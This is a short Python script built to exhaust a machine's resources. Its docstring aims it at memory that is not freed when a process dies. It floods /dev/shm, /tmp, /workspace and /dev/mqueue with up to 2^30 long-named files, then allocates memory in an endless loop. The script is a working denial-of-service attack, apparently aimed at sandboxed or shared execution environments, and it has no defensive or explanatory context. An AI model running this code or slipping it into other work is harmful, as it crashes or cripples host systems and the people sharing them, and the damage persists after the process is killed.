"""Take memory that no process's death gives back, and then what is left."""

import contextlib
import os

for place in ("/dev/shm", "/workspace", "/tmp", "/dev/mqueue"):
    with contextlib.suppress(OSError):
        for number in range(1 << 30):
            os.close(os.open(f"{place}/{number:0200}", os.O_CREAT | os.O_WRONLY))
held = []
while True:
    held.append(b"x" * (1 << 20))
